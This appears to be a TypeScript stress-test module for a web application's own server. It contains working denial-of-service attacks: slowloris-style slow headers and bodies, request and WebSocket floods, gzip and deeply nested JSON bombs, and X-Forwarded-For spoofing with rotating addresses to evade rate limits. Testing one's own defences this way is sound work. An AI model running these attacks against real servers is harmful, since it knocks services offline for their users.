// People who do not use the site as usual. Each attack goes on until its time is up and returns how often what came back.
import { once } from 'node:events'
import { Agent, type IncomingMessage, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as delay } from 'node:timers/promises'
import { gzipSync } from 'node:zlib'
import { WebSocket } from 'ws'
import { notificationsPath } from '../../packages/contracts/src/notifications.socket.ts'
import { countBy } from './honest.ts'

export type AttackOptions = {
  /** How many go on at the same time. */
  connections: number
  seconds: number
  /** What they ask for. */
  path?: string
  cookie?: string
  userId?: string
}
/** Status codes and close codes, and how often each came. */
export type Outcomes = Record<string, number>

/** All of these come from one address. */
const attacker = '203.0.113.66'

/** Repeats an attempt on every connection until the time is up. */
async function repeat(
  { connections, seconds }: AttackOptions,
  attempt: (signal: AbortSignal) => Promise<string>,
): Promise<Outcomes> {
  const signal = AbortSignal.timeout(seconds * 1000)
  const outcomes: string[] = []
  const goOn = async () => {
    while (!signal.aborted) outcomes.push(await attempt(signal))
  }
  await Promise.all(Array.from({ length: connections }, goOn))
  return countBy(outcomes)
}

/** Resolves with the status of the first answer, or with what ended it. */
async function watch(socket: Socket, signal: AbortSignal): Promise<string> {
  let answer = ''
  socket.on('data', (chunk: Buffer) => {
    if (answer.length < 12) answer += chunk.toString('latin1', 0, 12)
  })
  const stop = () => socket.destroy()
  signal.addEventListener('abort', stop, { once: true })
  await once(socket, 'close').catch(() => {})
  signal.removeEventListener('abort', stop)
  if (answer) return answer.split(' ')[1] ?? 'unreadable'
  return signal.aborted ? 'still open' : 'closed'
}

const dial = (url: string): Socket => {
  const { hostname, port } = new URL(url)
  // An error is followed by the close event.
  return connect(Number(port), hostname).on('error', () => {})
}

const headersOf = (url: string, lines: string) =>
  `Host: ${new URL(url).host}\r\nX-Forwarded-For: ${attacker}\r\n${lines}`

/** Many requests on one connection, and hardly anything is read of the answers. */
function readSlowly(url: string, options: AttackOptions): Promise<Outcomes> {
  return repeat(options, async (signal) => {
    const socket = dial(url)
    const ask = `GET ${options.path ?? '/'} HTTP/1.1\r\n${headersOf(url, '')}\r\n`
    socket.write(ask.repeat(100))
    socket.pause()
    const sip = setInterval(() => socket.read(16), 1000)
    const ended = await watchPaused(socket, signal)
    clearInterval(sip)
    return ended
  })
}

async function watchPaused(socket: Socket, signal: AbortSignal): Promise<string> {
  const stop = () => socket.destroy()
  signal.addEventListener('abort', stop, { once: true })
  await once(socket, 'close').catch(() => {})
  signal.removeEventListener('abort', stop)
  return signal.aborted ? 'still open' : 'closed'
}

/** A header that never ends. */
function sendHeadersSlowly(url: string, options: AttackOptions): Promise<Outcomes> {
  return repeat(options, (signal) => {
    const socket = dial(url)
    socket.write(`GET / HTTP/1.1\r\n${headersOf(url, 'X-Slow: ')}`)
    return drip(socket, signal)
  })
}

/** A body that takes an hour. */
function sendBodiesSlowly(url: string, options: AttackOptions): Promise<Outcomes> {
  return repeat(options, (signal) => {
    const socket = dial(url)
    const headers = headersOf(url, 'Content-Type: application/json\r\nContent-Length: 3600\r\n')
    socket.write(`POST /api/v1/auth/login HTTP/1.1\r\n${headers}\r\n`)
    return drip(socket, signal)
  })
}

async function drip(socket: Socket, signal: AbortSignal): Promise<string> {
  const dripping = setInterval(() => socket.write(' '), 1000)
  const ended = await watch(socket, signal)
  clearInterval(dripping)
  return ended
}

/** As fast as the connections allow. */
async function flood(url: string, options: AttackOptions): Promise<Outcomes> {
  const agent = new Agent({ keepAlive: true })
  const headers = { 'x-forwarded-for': attacker }
  const outcomes = await repeat(options, () => send(agent, `${url}${options.path ?? '/'}`, { headers }))
  agent.destroy()
  return outcomes
}

async function send(
  agent: Agent,
  url: string,
  { body, ...options }: { method?: string; headers: Record<string, string>; body?: Buffer },
): Promise<string> {
  const asking = request(url, { agent, ...options })
  // The server may answer and hang up before it has read the whole body.
  const answered = once(asking, 'response') as Promise<[IncomingMessage]>
  asking.on('error', () => {})
  asking.end(body)
  try {
    const [response] = await answered
    response.on('error', () => {}).resume()
    return String(response.statusCode)
  } catch {
    return 'closed'
  }
}

/** Opens sockets without a session, and for one user with more messages than anyone types. */
function floodSockets(url: string, { cookie, userId, ...options }: AttackOptions): Promise<Outcomes> {
  let turn = 0
  return repeat(options, (signal) => {
    turn += 1
    const isMember = turn % 2 === 0 && cookie !== undefined
    const socket = new WebSocket(`${url.replace('http', 'ws')}${notificationsPath}`, {
      headers: { 'x-forwarded-for': attacker, ...(isMember && { cookie }) },
    })
    return new Promise((resolve) => {
      const stop = () => socket.terminate()
      signal.addEventListener('abort', stop, { once: true })
      const end = (outcome: string) => {
        signal.removeEventListener('abort', stop)
        resolve(signal.aborted ? 'still open' : outcome)
      }
      socket.on('error', () => {})
      socket.on('unexpected-response', (_, response) => {
        response.resume()
        response.on('end', () => end(String(response.statusCode)))
        response.on('error', () => end(String(response.statusCode)))
      })
      socket.on('close', (code) => end(String(code)))
      socket.on('open', () => {
        socket.send(JSON.stringify({ type: 'auth', userId }))
        for (let count = 0; count < 300; count += 1) socket.send('{"type":"heartbeat"}')
      })
    })
  })
}

const json = { 'content-type': 'application/json' }
const nested = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth)
const mebi = 1024 * 1024

/** Bodies that are small to send and expensive to read, or that are simply too large. */
const bombs = [
  {
    path: '/auth/login',
    headers: { ...json, 'content-encoding': 'gzip' },
    body: gzipSync(Buffer.alloc(64 * mebi, ' ')),
  },
  { path: '/auth/login', headers: json, body: Buffer.from(nested('[', ']', 120_000)) },
  {
    path: '/auth/login',
    headers: json,
    body: Buffer.from(nested('{"a":', '}', 40_000).replace(':}', ':1}')),
  },
  { path: '/auth/login', headers: json, body: Buffer.from(`{${manyKeys(20_000)}}`) },
  { path: '/auth/login', headers: json, body: Buffer.alloc(32 * mebi, ' ') },
  // Chapters may be large, but visitors have none.
  {
    path: '/content/00000000-0000-7000-8000-000000000000/chapters',
    headers: json,
    body: Buffer.from(`{"content":{"type":"doc","content":[${'{"type":"paragraph"},'.repeat(350_000)}0]}}`),
  },
  {
    path: '/content/00000000-0000-7000-8000-000000000000/chapters',
    headers: json,
    body: Buffer.from(nested('[', ']', 4_000_000)),
  },
]

function manyKeys(count: number): string {
  return Array.from({ length: count }, (_, index) => `"k${index}":0`).join(',')
}

async function dropBombs(url: string, options: AttackOptions): Promise<Outcomes> {
  const agent = new Agent({ keepAlive: true })
  let turn = 0
  const outcomes = await repeat(options, async () => {
    turn += 1
    const { path, headers, body } = bombs[turn % bombs.length]!
    // From a new address each time: here, limits must not help.
    const from = { 'x-forwarded-for': `203.0.${turn % 250}.${Math.floor(turn / 250) % 250}` }
    const outcome = await send(agent, `${url}/api/v1${path}`, {
      method: 'POST',
      headers: { ...headers, ...from, 'content-length': String(body.length) },
      body,
    })
    await delay(20)
    return outcome
  })
  agent.destroy()
  return outcomes
}

export const attacks = { readSlowly, sendHeadersSlowly, sendBodiesSlowly, flood, floodSockets, dropBombs }
export type Attack = keyof typeof attacks
